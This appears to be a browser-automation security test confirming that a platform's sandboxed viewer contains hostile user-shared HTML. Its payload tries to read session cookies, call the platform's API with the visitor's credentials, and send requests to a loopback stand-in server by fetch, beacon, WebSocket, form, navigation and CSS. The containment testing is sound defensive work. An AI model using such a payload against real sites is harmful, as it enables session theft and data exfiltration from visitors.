/**
 * Attack: shared HTML cannot run script on the platform's origin or reach the network (issue 38).
 * A hostile HTML asset, shared publicly and opened in the viewer (and previewed in the portal by
 * its owner), tries everything: read the session cookie and the page around it, use storage, call
 * the platform's API with the visitor's credentials, and reach an outside server (here one on
 * loopback that counts what arrives) by fetch, image, beacon, WebSocket, form, pop-up, top and
 * own navigation, meta refresh, CSS and prefetch. Its script runs only in the frame's opaque
 * origin; the outside server receives nothing, and the platform's API gets no call from it.
 */
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { haveChromium, people, startPortalRig, type PortalRig } from '../support/portal.js';
import { assetSeeder, type AssetSeeder } from './portal-assets-fixtures.js';

describe.skipIf(!haveChromium)('shared HTML', () => {
  let rig: PortalRig;
  let seed: AssetSeeder;
  let outside: Server;
  let outsideUrl: string;
  const arrived: string[] = [];

  beforeAll(async () => {
    outside = createServer((request, response) => {
      arrived.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('ok');
    });
    outside.on('upgrade', (request, socket) => {
      arrived.push(`UPGRADE ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    outsideUrl = `http://127.0.0.1:${(outside.address() as { port: number }).port}`;
    rig = await startPortalRig();
    seed = assetSeeder(rig);
  }, 180_000);

  afterAll(async () => {
    await rig?.stop();
    await new Promise<void>((resolve) => outside?.close(() => resolve()));
  });

  /** The hostile page: each attempt's outcome is written into #results (the test reads the frame through the browser's tooling). */
  function hostileHtml(platform: string): string {
    return `<!doctype html><html><head>
<link rel="prefetch" href="${outsideUrl}/prefetch">
<link rel="stylesheet" href="${outsideUrl}/style.css">
<style>body { background-image: url(${outsideUrl}/css-image); }</style>
</head><body><h1>Quarterly chart</h1><pre id="results">running</pre>
<img src="${outsideUrl}/img-tag">
<form id="f" action="${outsideUrl}/form" method="post"><input name="x" value="1"></form>
<script>
(async () => {
  const r = {};
  const attempt = async (name, run) => { try { r[name] = String(await run()); } catch (e) { r[name] = 'blocked: ' + (e && e.name); } };
  await attempt('origin', () => self.origin);
  await attempt('cookie', () => document.cookie);
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => top.location.href);
  await attempt('localStorage', () => { localStorage.setItem('x', '1'); return 'open'; });
  await attempt('platformFetch', async () => (await fetch(${JSON.stringify(platform)} + '/api/v1/portal/session', { credentials: 'include' })).status);
  await attempt('outsideFetch', async () => (await fetch(${JSON.stringify(outsideUrl)} + '/fetch')).status);
  await attempt('beacon', () => navigator.sendBeacon(${JSON.stringify(outsideUrl)} + '/beacon', 'x'));
  await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve('loaded'); i.onerror = () => reject(new Error('image')); i.src = ${JSON.stringify(outsideUrl)} + '/image'; }));
  await attempt('websocket', () => new Promise((resolve, reject) => { const w = new WebSocket(${JSON.stringify(outsideUrl.replace('http', 'ws'))} + '/ws'); w.onopen = () => resolve('open'); w.onerror = () => reject(new Error('ws')); }));
  await attempt('popup', () => window.open(${JSON.stringify(outsideUrl)} + '/popup') === null ? 'blocked: null' : 'opened');
  await attempt('form', () => { document.getElementById('f').submit(); return 'submitted?'; });
  await attempt('topNavigation', () => { top.location = ${JSON.stringify(outsideUrl)} + '/top'; return 'assigned'; });
  document.getElementById('results').textContent = JSON.stringify(r);
})();
</script></body></html>`;
  }

  async function frameResults(page: import('playwright-core').Page, title: string): Promise<Record<string, string>> {
    const frame = page.frameLocator(`iframe[title="${title} (sandboxed preview)"]`);
    await expect.poll(() => frame.locator('#results').innerText(), { timeout: 20_000 }).toMatch(/^\{/);
    return JSON.parse(await frame.locator('#results').innerText());
  }

  function expectContained(r: Record<string, string>): void {
    // Script ran, but on an opaque origin: no cookie, no page around it, no storage of ours.
    expect(r.origin).toBe('null');
    expect(r.cookie).toMatch(/^blocked: SecurityError/);
    expect(r.parent).toMatch(/^blocked: SecurityError/);
    expect(r.top).toMatch(/^blocked: SecurityError/);
    expect(r.localStorage).toMatch(/^blocked: SecurityError/);
    // No request of any kind leaves the frame.
    expect(r.platformFetch).toMatch(/^blocked: TypeError/);
    expect(r.outsideFetch).toMatch(/^blocked: TypeError/);
    // sendBeacon only queues (true or false): whether anything arrived is checked at the outside server.
    expect(r.image).toMatch(/^blocked/);
    expect(r.websocket).toMatch(/^blocked/);
    expect(r.popup).toMatch(/^blocked/);
    expect(r.topNavigation).toMatch(/^blocked/);
  }

  it('in the public viewer: runs only on an opaque origin and reaches nothing, neither the platform nor an outside server', async () => {
    const id = await seed.save(people.alice, { name: 'Quarterly chart', content: hostileHtml(rig.url), content_type: 'text/html' });
    const { path } = await seed.share(people.alice, id);
    // A signed-in visitor: the session cookie exists in this browser, and still nothing can use it.
    const { context, page } = await rig.open(people.bob);
    const platformCalls: string[] = [];
    page.on('request', (request) => {
      if (request.frame() !== page.mainFrame() && request.url().includes('/api/')) platformCalls.push(request.url());
    });
    await page.goto(`${rig.url}${path}`);
    expectContained(await frameResults(page, 'Quarterly chart'));
    expect(await page.evaluate(() => document.title)).toBe('Quarterly chart');
    expect(page.url()).toBe(`${rig.url}${path}`);
    expect(context.pages()).toHaveLength(1);
    expect(platformCalls).toEqual([]);
    expect(arrived).toEqual([]);
    await context.close();
  });

  it('in the owner\'s portal preview: the same frame, the same containment', async () => {
    const id = await seed.save(people.alice, { name: 'Owner preview', content: hostileHtml(rig.url), content_type: 'text/html' });
    const { context, page } = await rig.open(people.alice);
    await page.goto(`${rig.url}/portal/assets/${id}`);
    expectContained(await frameResults(page, 'Owner preview'));
    expect(page.url()).toBe(`${rig.url}/portal/assets/${id}`);
    expect(arrived).toEqual([]);
    await context.close();
  });

  it('a frame that navigates itself away (script or meta refresh) is stopped by the page\'s frame-src: nothing arrives outside', async () => {
    for (const [name, html] of [
      ['Runaway script', `<p>bye</p><script>location.href = ${JSON.stringify(`${outsideUrl}/own-navigation`)};</script>`],
      ['Runaway refresh', `<meta http-equiv="refresh" content="0;url=${outsideUrl}/meta-refresh"><p>bye</p>`],
    ] as const) {
      const id = await seed.save(people.alice, { name, content: html, content_type: 'text/html' });
      const { path } = await seed.share(people.alice, id);
      const { context, page } = await rig.open(undefined);
      const blocked: string[] = [];
      page.on('console', (m) => {
        if (/frame-src/.test(m.text())) blocked.push(m.text());
      });
      await page.goto(`${rig.url}${path}`);
      await expect.poll(() => blocked.length, { timeout: 20_000 }).toBeGreaterThan(0);
      expect(page.url()).toBe(`${rig.url}${path}`);
      expect(arrived).toEqual([]);
      await context.close();
    }
  });

  it('opened on its own, the frame document still runs on an opaque origin; the raw content is never a page of the platform', async () => {
    const probe = `<pre id="results">running</pre><script>
(async () => {
  const r = { origin: String(self.origin) };
  try { r.cookie = document.cookie; } catch (e) { r.cookie = 'blocked: ' + e.name; }
  try { r.platformFetch = String((await fetch(${JSON.stringify(rig.url)} + '/api/v1/portal/session', { credentials: 'include' })).status); } catch (e) { r.platformFetch = 'blocked: ' + e.name; }
  try { r.outsideFetch = String((await fetch(${JSON.stringify(outsideUrl)} + '/direct')).status); } catch (e) { r.outsideFetch = 'blocked: ' + e.name; }
  document.getElementById('results').textContent = JSON.stringify(r);
})();
</script>`;
    const id = await seed.save(people.alice, { name: 'Direct', content: probe, content_type: 'text/html' });
    const { path } = await seed.share(people.alice, id);
    const { context, page } = await rig.open(people.bob);
    await page.goto(`${rig.url}${path}/frame`);
    await expect.poll(() => page.locator('#results').innerText(), { timeout: 20_000 }).toMatch(/^\{/);
    const r = JSON.parse(await page.locator('#results').innerText());
    expect(r.origin).toBe('null');
    expect(r.cookie).toMatch(/^blocked: SecurityError/);
    expect(r.platformFetch).toMatch(/^blocked/);
    expect(r.outsideFetch).toMatch(/^blocked/);
    const content = await page.request.get(`${rig.url}/api/v1/portal/view/${path.split('/').pop()}/content`);
    expect(content.headers()['content-disposition']).toMatch(/^attachment/);
    expect(content.headers()['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(arrived).toEqual([]);
    await context.close();
  });
});
